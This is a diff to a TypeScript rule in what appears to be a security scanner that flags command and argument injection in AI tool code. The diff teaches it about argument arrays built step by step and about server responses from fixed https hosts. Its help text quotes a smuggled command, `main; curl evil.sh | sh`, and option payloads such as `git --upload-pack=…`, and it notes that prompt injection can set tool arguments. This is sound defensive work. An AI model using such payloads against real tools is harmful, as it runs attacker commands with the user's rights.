@@ -1,15 +1,18 @@
 // command-injection: an untrusted value (tool argument, exported parameter,
 // HTTP request) becomes a shell command line, the program to run, or an
 // option of a program run without a shell.
-import { propertyName, unwrapExpression } from "../analyzer/parse/ast.js";
-import { AFTER_FIRST_WORD, AFTER_OPTIONS_END, OPTION_VALUE, staysOneShellWord } from "../analyzer/taint/shell-shapes.js";
+import type { TSESTree } from "@typescript-eslint/types";
+import { propertyName, unwrapExpression, walk } from "../analyzer/parse/ast.js";
+import { AFTER_FIRST_WORD, AFTER_OPTIONS_END, OPTION_VALUE, flagsBefore, staysOneShellWord } from "../analyzer/taint/shell-shapes.js";
 import { type Flow, NO_LEADING_DASH, type GuardKind, type SinkHit } from "../analyzer/taint/spec.js";
 import type { Rule, RuleContext } from "./types.js";
+import type { ParsedModule } from "../analyzer/types.js";
 import { fetchedTextRuns } from "./download-and-execute.js";
 import { URL_OPENER_KIND } from "./models/process.js";
+import { NETWORK_REQUEST_KIND } from "./models/network.js";
 import { URL_PATH } from "../analyzer/taint/url-shapes.js";
-import { optionInjectionReach, runsOperandsAsCode } from "./models/commands.js";
-import { argumentVectorRisk } from "./util/argument-vector.js";
+import { optionInjectionReach, readsNextAsValue, runsOperandsAsCode } from "./models/commands.js";
+import { argumentVectorRisk, isFixedFirstElement } from "./util/argument-vector.js";
 import { declaredCapability } from "./util/declared-purpose.js";
 import { templateText } from "./util/command-strings.js";
 import { isUnsafe, reportFlow, shapeOf, type UntrustedFlow, untrustedFlows } from "./util/untrusted-flows.js";
@@ -54,7 +57,7 @@ export const commandInjection: Rule = {
     cwe: [78, 88],
     summary: "A tool argument becomes part of a shell command line or the program to run.",
     description:
-      "A value the model chooses (a tool argument, which a prompt injection can set) reaches `exec`, `execSync`, a `spawn` with `shell: true`, `sh -c`, shelljs or the program position of `execFile`/`spawn` without an allow-list. Whoever writes the value runs commands as the user. Argument arrays without a shell are safer, but an argument that can start with `-` is still read as an option (`--upload-pack=...`): that is reported at medium, and at high for a program one of whose options carries a command (`git --upload-pack=…`, `rg --pre=…`, `tar --to-command=…`, rules/models/commands.ts). In a shell line, a value that cannot leave its word (only letters, digits and `_.,:/@%+=-` by an anchored pattern, a character-class replace or a format; or single quotes escaped as `'\\''` and written inside single quotes) is judged the same way, as an argument; `JSON.stringify` and double quotes are not shell quoting (`$( )` and backticks run), and a word given to `sh -c`, `ssh host …` or `xargs` is still a command. An argument is not an option after `--`, glued to a constant (`./${f}`, `https://…?u=${u}`, `--grep=${p}`), or as the value of an option that takes one (`rg -e PATTERN`, `kubectl -n NS`). When the tool says this is what it is for (its name, description and schema declare the act and the argument is the whole command line), the finding is a capability: medium or low, listed under \"What it can do\", and the permission policy asks before each call; it stays an injection when the value crosses a boundary the code or the tool's text meant to keep. A value a server sent (an authorization server's metadata, a redirect's Location) placed in a shell line, or handed whole to the `open` package as what the system opener starts (it launches apps and `file:` URLs, and on Windows goes through a command line), is reported at medium: whoever answers that request writes part of the command (fetched text run as the whole command is `download-and-execute`).",
+      "A value the model chooses (a tool argument, which a prompt injection can set) reaches `exec`, `execSync`, a `spawn` with `shell: true`, `sh -c`, shelljs or the program position of `execFile`/`spawn` without an allow-list. Whoever writes the value runs commands as the user. Argument arrays without a shell are safer, but an argument that can start with `-` is still read as an option (`--upload-pack=...`): that is reported at medium, and at high for a program one of whose options carries a command (`git --upload-pack=…`, `rg --pre=…`, `tar --to-command=…`, rules/models/commands.ts). In a shell line, a value that cannot leave its word (only letters, digits and `_.,:/@%+=-` by an anchored pattern, a character-class replace or a format; or single quotes escaped as `'\\''` and written inside single quotes) is judged the same way, as an argument; `JSON.stringify` and double quotes are not shell quoting (`$( )` and backticks run), and a word given to `sh -c`, `ssh host …` or `xargs` is still a command. An argument is not an option after `--`, glued to a constant (`./${f}`, `https://…?u=${u}`, `--grep=${p}`), or as the value of an option that takes one (`rg -e PATTERN`, `kubectl -n NS`). When the tool says this is what it is for (its name, description and schema declare the act and the argument is the whole command line), the finding is a capability: medium or low, listed under \"What it can do\", and the permission policy asks before each call; it stays an injection when the value crosses a boundary the code or the tool's text meant to keep. A value a server sent (an authorization server's metadata, a redirect's Location) placed in a shell line, or handed whole to the `open` package as what the system opener starts (it launches apps and `file:` URLs, and on Windows goes through a command line), is reported at medium: whoever answers that request writes part of the command (fetched text run as the whole command is `download-and-execute`); at low when the request goes over https to the package's own service (a constant host, or one only the code's own callers pass, chosen by no setting, argument or other answer). An argument vector built in steps (`args.push(\"--start\", since)`, in a helper or not) keeps what each element was written after: an element right after a constant option is that option's value when the command table says the program takes one, or, for a program the table does not know, when the code writes them as a pair (options that carry code, `-c`, `-e`, excepted); after a launcher's first operand (`npx pkg …`, `node script.js …`, `sudo cmd …`) the arguments belong to the program it names; and `args[0]` of a local array whose first element only constant `unshift`s change is the code's program.",
     help: [
       "**Why it matters.** A shell parses `;`, `&&`, `$(...)` and backticks: `branch = \"main; curl evil.sh | sh\"` runs the attacker's command with the user's rights. A prompt injection in any web page, issue or file the model reads can choose tool arguments.",
       "",
@@ -75,6 +78,9 @@ export const commandInjection: Rule = {
       reportedHits.add(hit);
       // The program position: a first argument, or an options object's `command` / `executablePath` (`new StdioClientTransport({ command })`, `launch({ executablePath })`).
       const programPosition = hit.argument === "Argument[0]" || /^Argument\[[01]\]\.Member\[(?:command|executablePath)\]$/.test(hit.argument);
+      // `execa(args[0], args.slice(1))` after `args.unshift("xcrun", …)`: the first element is the code's constant.
+      const first = hit.node.type === "CallExpression" ? hit.node.arguments[0] : undefined;
+      if (hit.argument === "Argument[0]" && first && isFixedFirstElement(first, hit.module)) continue;
       const shellLine = !programPosition || SHELL_STRING_API.test(hit.callee) || hasShellOption(hit);
       const line = shellLine ? shellLineProgram(hit) : undefined;
       // A value that stays one word of the line, after its program, is an argument, not shell syntax.
@@ -99,7 +105,7 @@ export const commandInjection: Rule = {
         continue;
       }
       // In option position only a leading `-` matters: a value whose shape cannot start with one is an operand.
-      const flow = u.hit.flows.find((f) => isUnsafe(ctx, f, "command-argument", OPTION_GUARDS, u.hit, cannotStartWithDash));
+      const flow = u.hit.flows.find((f) => isUnsafe(ctx, f, "command-argument", OPTION_GUARDS, u.hit, (m) => cannotStartWithDash(m) || isOptionValue(m, risk.program)));
       if (!flow) continue;
       reportOption(ctx, { hit: u.hit, flow }, risk.program, risk.subcommand, "in its argument array");
     }
@@ -111,6 +117,16 @@ function reportOption(ctx: RuleContext, u: UntrustedFlow, program: string | unde
   const runs = optionInjectionReach(program, subcommand);
   if (runs) reportFlow(ctx, u, `${where}, where a value such as \`${runs.runsCode}…\` is read as an option of ${program} that runs a command (argument injection)`, OPTION_FIX, "high", "option");
   else reportFlow(ctx, u, `${where}, where a value starting with \`-\` is read as an option (argument injection)`, OPTION_FIX, "medium", "option");
+}
+
+/**
+ * Written right after a constant option that takes the next argument as its
+ * value (`args.push("--start", since)`, `["-t", n]` built in a helper): the
+ * program reads it as that value whatever it starts with.
+ */
+function isOptionValue(marks: readonly string[], program: string | undefined): boolean {
+  const flags = flagsBefore(marks);
+  return flags.length > 0 && flags.every((f) => readsNextAsValue(program, f));
 }
 
 /** One word of a shell line that is not its first (the program): inert characters, or escaped and single-quoted (shell-shapes.ts). */
@@ -173,12 +189,93 @@ const RESPONSE_IN_SHELL_FIX = "Pass the value as one element of an argument arra
 const RESPONSE_OPENED_FIX = "Check that the URL's scheme is http(s) (and its host the one expected) before opening it, open it without a shell (execFile/spawn with an argument array), or allow-list the value.";
 
 function reportResponseValue(ctx: RuleContext, hit: SinkHit, flow: Flow, what: string, fix: string): void {
+  // The package's own service over https (a host the code fixes) answered, not whoever the model or a setting names.
+  const ownService = answeredByFixedHost(ctx, flow);
   ctx.report({
-    message: `A value from a network response (${flow.label.name}) reaches ${hit.callee} ${what}`,
-    severity: "medium",
+    message: `A value from a network response (${flow.label.name}${ownService ? ", from an https service at a host the code fixes" : ""}) reaches ${hit.callee} ${what}`,
+    severity: ownService ? "low" : "medium",
     location: hit.location,
     path: flow.path.length > 0 ? flow.path : undefined,
     fix,
     fingerprintKey: `response|${hit.callee}|${hit.argument}`,
   });
+}
+
+/**
+ * The request a response label was read from (`const res = await fetch(url)`;
+ * `res.json()`): the call the label's receiver was assigned from, in the same
+ * function, or the label's own call when it is the request (`fetch(url)` as
+ * the Response).
+ */
+function requestOf(ctx: RuleContext, flow: Flow): { call: TSESTree.CallExpression; module: ParsedModule; fn: TSESTree.Node } | undefined {
+  const module = ctx.program.byPath.get(flow.label.location.file);
+  if (!module) return undefined;
+  const { line, column } = flow.label.location;
+  let at: TSESTree.Node | undefined;
+  let fn: TSESTree.Node | undefined;
+  walk(module.ast, {
+    enter(x) {
+      if (x.loc.end.line < line || x.loc.start.line > line) return false;
+      if (x.type === "FunctionDeclaration" || x.type === "FunctionExpression" || x.type === "ArrowFunctionExpression") fn = x;
+      if (!at && (x.type === "CallExpression" || x.type === "MemberExpression") && x.loc.start.line === line && x.loc.start.column + 1 === column) at = x;
+    },
+  });
+  if (!at || !fn) return undefined;
+  const callee = at.type === "CallExpression" ? unwrapExpression(at.callee) : at;
+  const receiver = callee.type === "MemberExpression" ? unwrapExpression(callee.object) : undefined;
+  if (!receiver) return at.type === "CallExpression" ? { call: at, module, fn } : undefined;
+  if (receiver.type === "CallExpression") return { call: receiver, module, fn };
+  if (receiver.type !== "Identifier") return undefined;
+  let request: TSESTree.CallExpression | undefined;
+  let declarations = 0;
+  walk(fn, {
+    enter(x) {
+      if (x.type !== "VariableDeclarator" || x.id.type !== "Identifier" || x.id.name !== receiver.name) return;
+      declarations++;
+      const init = x.init ? unwrapExpression(x.init) : undefined;
+      const call = init?.type === "AwaitExpression" ? unwrapExpression(init.argument) : init;
+      if (call?.type === "CallExpression") request = call;
+    },
+  });
+  return declarations === 1 && request ? { call: request, module, fn } : undefined;
+}
+
+/**
+ * The response's request goes over https to an address no labelled value and
+ * no setting chooses (destination facts of every hit of the request call): the
+ * host is a constant, or what the code's own callers pass.
+ */
+function answeredByFixedHost(ctx: RuleContext, flow: Flow): boolean {
+  const request = requestOf(ctx, flow);
+  if (!request) return false;
+  const calls = [...ctx.taint.hits, ...(ctx.taint.quietHits ?? [])].filter((h) => h.node === request.call && h.kind === NETWORK_REQUEST_KIND && h.destination);
+  if (calls.length === 0) {
+    // No labelled value reaches the request at all: the code alone writes its address; the scheme is what its constants say.
+    const url = request.call.arguments[0];
+    if (!url || url.type === "SpreadElement") return false;
+    const texts = ctx.taint.constantsOf(url, request.module);
+    // `https://${host}/oauth/device`, written in place or in a local constant of the same function.
+    const written = templateText(localInit(url, request.fn) ?? url, request.module);
+    return texts.length > 0 ? texts.every((c) => c.startsWith("https://")) : written?.startsWith("https://") === true;
+  }
+  return calls.every((h) => {
+    const d = h.destination!;
+    // A constant host, or one only the code's own callers pass: no labelled value (a tool argument, a request, another
+    // response) and no setting (a user-configured server, which may be plain http or anyone's) picks the address.
+    const chosenByCode = d.configuredBy.length === 0 && (d.hostFixed || (d.tainted.length === 0 && !d.unresolved));
+    return chosenByCode && d.constants.length > 0 && d.constants.every((c) => c.startsWith("https://"));
+  });
+}
+
+/** The initializer of a `const` the function declares once under the identifier's name. */
+function localInit(node: TSESTree.Node, fn: TSESTree.Node): TSESTree.Node | undefined {
+  const id = unwrapExpression(node);
+  if (id.type !== "Identifier") return undefined;
+  const inits: (TSESTree.Node | null)[] = [];
+  walk(fn, {
+    enter(x) {
+      if (x.type === "VariableDeclaration" && x.kind === "const") for (const d of x.declarations) if (d.id.type === "Identifier" && d.id.name === id.name) inits.push(d.init);
+    },
+  });
+  return inits.length === 1 ? (inits[0] ?? undefined) : undefined;
 }
